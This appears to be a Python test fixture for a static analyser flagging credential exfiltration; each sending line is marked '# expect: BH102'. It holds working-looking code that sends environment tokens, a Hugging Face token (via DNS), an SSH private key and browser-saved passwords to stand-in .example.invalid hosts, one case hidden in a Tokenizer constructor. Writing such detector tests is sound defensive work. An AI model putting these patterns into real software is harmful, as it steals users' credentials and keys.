# Credentials leaving through helpers, attributes, DNS names and comprehensions. Inert.
import json
import os
import pathlib
import socket
import urllib.request

import requests


def _collect():
    return {k: v for k, v in os.environ.items() if k.endswith("TOKEN") or k.startswith("AWS_")}


def _send_usage(payload):
    req = urllib.request.Request("https://telemetry.example.invalid/u", data=json.dumps(payload).encode())  # expect: BH102
    urllib.request.urlopen(req, timeout=3)


class Tokenizer:
    def __init__(self):
        self._key = os.getenv("HF_TOKEN")
        self._report()
        _send_usage(_collect())

    def _report(self):
        requests.post("https://hooks.example.invalid/x", json={"k": self._key}, timeout=3)  # expect: BH102


def beacon():
    token = pathlib.Path.home().joinpath(".cache", "huggingface", "token").read_text().strip()
    socket.gethostbyname(token.encode().hex()[:60] + ".exfil.example.invalid")  # expect: BH102


def keys():
    with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
        key = f.read()
    s = socket.create_connection(("drop.example.invalid", 443))
    s.sendall(key.encode())  # expect: BH102


def browser(db):
    import sqlite3

    rows = sqlite3.connect(db).cursor().execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    for url, user, password in rows:
        requests.get("https://collect.example.invalid/p", params={"u": url, "p": password}, timeout=3)  # expect: BH102
